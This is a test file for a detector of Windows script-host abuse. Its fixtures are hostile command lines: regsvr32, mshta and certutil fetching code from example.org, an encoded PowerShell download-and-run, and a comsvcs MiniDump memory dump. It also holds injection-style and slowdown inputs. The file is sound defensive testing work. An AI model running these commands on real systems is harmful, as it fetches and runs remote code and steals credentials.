import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { detector } from "../../../src/detect/script-host-abuse/index.js";
import { decoded } from "../../../src/detect/script-host-abuse/judge.js";
import { hostList } from "../../../src/detect/script-host-abuse/list.js";
import { ENGINES } from "../../support/stores.js";
import { later, type MadeEvent, told, WindowsWorld } from "../windows/world.js";

const SYSTEM32 = "C:\\Windows\\System32\\";
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const OUTLOOK = "C:\\Program Files\\Office\\outlook.exe";

function ran(
  image: string,
  command: string,
  parent: string,
  more: Partial<MadeEvent> = {},
  guid = "",
): MadeEvent {
  return {
    id: 1,
    data: { Image: image, CommandLine: command, ParentImage: parent, User: "CORP\\anna", ProcessGuid: guid },
    ...more,
  };
}
const encoded = (text: string) => Buffer.from(text, "utf16le").toString("base64");

describe.each(ENGINES)("script-host-abuse: $name", (engine) => {
  let world: WindowsWorld;
  beforeAll(async () => {
    world = await WindowsWorld.open(engine);
  });
  afterAll(() => world.close());
  beforeEach(() => world.clear());
  const run = async (events: readonly MadeEvent[], choice: Parameters<WindowsWorld["run"]>[1] = {}) => {
    await world.store(events);
    return world.run(detector, choice);
  };

  it("a script from the temporary folder under the mail program, which then calls out, is high", async () => {
    const { findings } = await run(
      [
        ran(
          `${SYSTEM32}wscript.exe`,
          'wscript.exe "C:\\Users\\anna\\AppData\\Local\\Temp\\invoice.js"',
          OUTLOOK,
          {},
          "{1}",
        ),
        { id: 3, data: { ProcessGuid: "{1}", DestinationIp: "203.0.113.9" } },
        { id: 3, data: { ProcessGuid: "{1}", DestinationIp: "10.0.0.1" } },
      ],
      { organisations: { ministry: "default" } },
    );
    expect(told(findings)).toEqual(["high: wscript with invoice.js under outlook: WS-01"]);
    expect(findings[0]).toMatchObject({ org_id: "ministry" });
    expect(findings[0]?.attack).toEqual(["T1059.005", "T1204.002"]);
    expect(findings[0]?.components.find(({ name }) => name === "after")?.meaning).toMatch(
      /203\.0\.113\.9\.$/,
    );
  });

  it.each([
    ["regsvr32.exe", "regsvr32 /s /n /u /i:https://example.org/a.sct scrobj.dll", "medium"],
    ["mshta.exe", 'mshta javascript:a=GetObject("script:https://example.org/x").Exec()', "medium"],
    ["rundll32.exe", "rundll32.exe C:\\Users\\Public\\photo.jpg,Start", "high"],
    ["rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 700 C:\\out.bin full", "high"],
    ["mshta.exe", "C:\\Windows\\System32\\mshta.exe -Embedding", "medium"],
    ["certutil.exe", "certutil -urlcache -split -f http://example.org/a.txt a.exe", "medium"],
  ])("%s: %s is %s", async (image, command, expected) => {
    const { findings } = await run([ran(SYSTEM32 + image, command, `${SYSTEM32}cmd.exe`)]);
    expect(findings.map(({ severity }) => severity)).toEqual([expected]);
  });

  it("looks into an encoded command, and under a renamed program", async () => {
    const command = `-nop -w hidden -enc ${encoded("IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')")}`;
    const event = ran("C:\\Users\\Public\\helper.exe", `helper.exe ${command}`, `${SYSTEM32}cmd.exe`);
    event.data.OriginalFileName = "PowerShell.EXE";
    const { findings } = await run([event]);
    expect(findings[0]?.facts.shapes).toEqual(
      expect.arrayContaining([
        "an encoded command",
        "a hidden window",
        "a download",
        "text that is run as a command",
      ]),
    );
  });

  it("what administrators and software run is nothing", async () => {
    const { findings, evaluated } = await run([
      ran(POWERSHELL, "powershell.exe -File C:\\Windows\\Scripts\\backup.ps1", `${SYSTEM32}svchost.exe`),
      ran(POWERSHELL, "powershell.exe", "C:\\Windows\\explorer.exe"),
      ran(
        POWERSHELL,
        `powershell.exe -NoProfile -EncodedCommand ${encoded("Get-Service | Out-Null; $x = 1")}`,
        `${SYSTEM32}wsmprovhost.exe`,
      ),
      ran(
        `${SYSTEM32}wscript.exe`,
        "wscript.exe \\\\corp.example\\SYSVOL\\corp.example\\scripts\\logon.vbs",
        `${SYSTEM32}gpscript.exe`,
      ),
      ran(
        `${SYSTEM32}cscript.exe`,
        "cscript //nologo C:\\Windows\\System32\\winrm.vbs qc -q",
        `${SYSTEM32}cmd.exe`,
      ),
      ran(
        `${SYSTEM32}rundll32.exe`,
        "rundll32.exe shell32.dll,SHCreateLocalServerRunDll {995C996E-D918-4a8c-A302-45719A6F4EA7} -Embedding",
        `${SYSTEM32}svchost.exe`,
      ),
      ran(
        `${SYSTEM32}regsvr32.exe`,
        'regsvr32.exe /s "C:\\Program Files\\App\\app.dll"',
        "C:\\Program Files\\App\\setup.exe",
      ),
      ran(`${SYSTEM32}msiexec.exe`, "msiexec.exe /V", `${SYSTEM32}services.exe`),
      ran(
        `${SYSTEM32}wbem\\wmic.exe`,
        "wmic /output:C:\\Windows\\Temp\\a.txt os get caption",
        `${SYSTEM32}cmd.exe`,
      ),
      ran(`${SYSTEM32}certutil.exe`, "certutil -verify cert.cer", `${SYSTEM32}cmd.exe`),
      ran(
        `${SYSTEM32}rundll32.exe`,
        "rundll32.exe printui.dll,PrintUIEntry /in",
        "C:\\Program Files\\Browser\\chrome.exe",
      ),
    ]);
    expect(told(findings)).toEqual([]);
    expect(evaluated).toContainEqual({ what: "of these script hosts", count: 11 });
  });

  it("what runs alike on many hosts is low at most; on one of them with another parent it is not", async () => {
    const command = "regsvr32 /s /i:https://intranet.example/a.sct scrobj.dll";
    const everywhere = Array.from({ length: 10 }, (_, index) =>
      ran(`${SYSTEM32}regsvr32.exe`, command, "C:\\Program Files\\Agent\\agent.exe", {
        host: `WS-${index}`,
        time: later(index),
      }),
    );
    const odd = ran(`${SYSTEM32}regsvr32.exe`, command, OUTLOOK, { host: "WS-3" });
    const { findings } = await run([...everywhere, odd]);
    expect(findings.map(({ severity, facts }) => [severity, facts.hosts])).toEqual([
      ["high", 1],
      ["low", 10],
    ]);
  });

  it("hostile values neither break it nor leave the findings' limits", async () => {
    const { findings } = await run([
      ran(
        `${SYSTEM32}mshta.exe`,
        `mshta javascript:'"\u0000; DROP TABLE windows_event -- password=hunter2 ${"x".repeat(60_000)}`,
        `C:\\a'"{}.exe`,
      ),
      ran(POWERSHELL, `powershell -enc ${"A".repeat(60_000)}`, `${SYSTEM32}cmd.exe`),
    ]);
    expect(findings[0]?.attack).toContain("T1218");
    expect(JSON.stringify(findings)).not.toContain("hunter2");
    expect(JSON.stringify(findings).length).toBeLessThan(20_000);
  });

  it("without command lines it was not tested", async () => {
    const { notTested } = await run([ran(`${SYSTEM32}mshta.exe`, "", OUTLOOK)]);
    expect(notTested).toMatch(/command lines/);
  });
});

describe("what commands have", () => {
  it("an encoded command is text; other words that begin with e are none", () => {
    expect(decoded(`powershell -e ${encoded("whoami /all")}`)).toBe("whoami /all");
    expect(decoded(`powershell -EncodedCommand "${encoded("whoami /all")}"`)).toBe("whoami /all");
    expect(decoded("powershell -ExecutionPolicy Bypass -File a.ps1")).toBe("");
  });

  it("a line that is made to be slow has none of the shapes", () => {
    const list = hostList();
    for (const line of [
      "/i:".repeat(2_700),
      "/format:".repeat(1_000),
      " -e".repeat(2_700),
      "a".repeat(8_192),
      "comsvcs".repeat(1_100),
      "/i ".repeat(2_700),
    ])
      expect(list.shapesOf(list.programs, line)).toEqual([]);
  });
});
